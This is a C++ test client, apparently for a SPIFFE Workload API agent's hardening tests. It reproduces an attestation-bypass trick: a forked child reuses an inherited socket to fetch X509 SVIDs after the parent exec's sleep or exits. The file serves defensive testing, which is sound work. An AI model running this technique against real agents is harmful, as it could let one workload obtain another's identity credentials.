// A Workload API client that replays the "exec after connect" and "exit before the call"
// tricks, for agent_hardening_test.cc.
//
// Usage: exec_relay_client SOCKET_PATH exec|exit
//        exec_relay_client SOCKET_PATH stream MARKER_FILE
// The process connects to the agent's socket and forks before touching gRPC. The child speaks
// gRPC over the inherited connection: a first FetchX509SVID while the parent (the process the
// agent sees as its peer) still runs this binary, then - once the parent has exec'd
// /usr/bin/sleep ("exec") or exited ("exit") - a second one on the same connection. Each call
// prints one line: "first|second ok <spiffe-id>..." or "first|second error <code> <message>".
// "stream" keeps the first FetchX509SVID open instead, has the parent exec sleep, writes
// "exec'd" to MARKER_FILE, and prints how the open stream went on: "stream update <ids>" for
// every further message and "stream error <code> <message>" when it ends (20 s at most).
#include <grpcpp/create_channel_posix.h>
#include <grpcpp/grpcpp.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <iostream>
#include <string>
#include <thread>

#include "spiffe/workload.grpc.pb.h"

namespace {

void PrintIds(const X509SVIDResponse& response) {
  for (const auto& svid : response.svids()) std::cout << " " << svid.spiffe_id();
  std::cout << std::endl;
}

void Fetch(SpiffeWorkloadAPI::Stub& stub, const char* label) {
  grpc::ClientContext context;
  context.AddMetadata("workload.spiffe.io", "true");
  context.set_deadline(std::chrono::system_clock::now() + std::chrono::seconds(10));
  auto reader = stub.FetchX509SVID(&context, X509SVIDRequest());
  X509SVIDResponse response;
  if (reader->Read(&response)) {
    std::cout << label << " ok";
    PrintIds(response);
    context.TryCancel();
    reader->Finish();
    return;
  }
  grpc::Status status = reader->Finish();
  std::cout << label << " error " << status.error_code() << " " << status.error_message()
            << std::endl;
}

bool WaitFor(const std::function<bool()>& done) {
  auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(10);
  while (!done()) {
    if (std::chrono::steady_clock::now() > deadline) return false;
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  const bool stream_mode = argc == 4 && std::strcmp(argv[2], "stream") == 0;
  if (!stream_mode &&
      (argc != 3 || (std::strcmp(argv[2], "exec") != 0 && std::strcmp(argv[2], "exit") != 0))) {
    std::cerr << "usage: exec_relay_client SOCKET_PATH exec|exit\n"
                 "       exec_relay_client SOCKET_PATH stream MARKER_FILE\n";
    return 2;
  }
  const bool exec_mode = stream_mode || std::strcmp(argv[2], "exec") == 0;
  // Inherited across exec on purpose (no SOCK_CLOEXEC), as in the attack.
  int conn = ::socket(AF_UNIX, SOCK_STREAM, 0);
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  std::snprintf(addr.sun_path, sizeof(addr.sun_path), "%s", argv[1]);
  if (conn < 0 || ::connect(conn, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    std::perror("connect");
    return 1;
  }
  int go[2];
  if (::pipe(go) != 0) return 1;
  const pid_t parent = ::getpid();
  pid_t child = ::fork();
  if (child < 0) return 1;
  if (child > 0) {
    // The agent's peer: wait until the child made its first call, then change what runs here.
    ::close(go[1]);
    char byte;
    if (::read(go[0], &byte, 1) != 1) return 1;
    if (exec_mode) {
      ::execl("/usr/bin/sleep", "sleep", "30", static_cast<char*>(nullptr));
      return 127;
    }
    return 0;
  }
  ::close(go[0]);
  auto channel = grpc::CreateInsecureChannelFromFd("agent", conn);
  auto stub = SpiffeWorkloadAPI::NewStub(channel);
  std::string exe_link = "/proc/" + std::to_string(parent) + "/exe";
  auto parent_runs_sleep = [&] {
    std::error_code error;
    return std::filesystem::read_symlink(exe_link, error) == "/usr/bin/sleep";
  };
  if (stream_mode) {
    grpc::ClientContext context;
    context.AddMetadata("workload.spiffe.io", "true");
    context.set_deadline(std::chrono::system_clock::now() + std::chrono::seconds(20));
    auto reader = stub->FetchX509SVID(&context, X509SVIDRequest());
    X509SVIDResponse response;
    if (reader->Read(&response)) {
      std::cout << "first ok";
      PrintIds(response);
      if (::write(go[1], "x", 1) != 1) return 1;
      if (WaitFor(parent_runs_sleep)) {
        std::ofstream(argv[3]) << "exec'd\n";
        while (reader->Read(&response)) {
          std::cout << "stream update";
          PrintIds(response);
        }
      }
    }
    grpc::Status status = reader->Finish();
    std::cout << "stream error " << status.error_code() << " " << status.error_message()
              << std::endl;
    ::kill(parent, SIGKILL);
    return 0;
  }
  Fetch(*stub, "first");
  if (::write(go[1], "x", 1) != 1) return 1;
  bool changed = WaitFor([&] {
    if (!exec_mode) return ::getppid() != parent;  // reparented: the parent has exited
    return parent_runs_sleep();
  });
  if (!changed) {
    std::cout << "second error parent did not " << argv[2] << std::endl;
  } else {
    Fetch(*stub, "second");
  }
  if (exec_mode) ::kill(parent, SIGKILL);
  return 0;
}
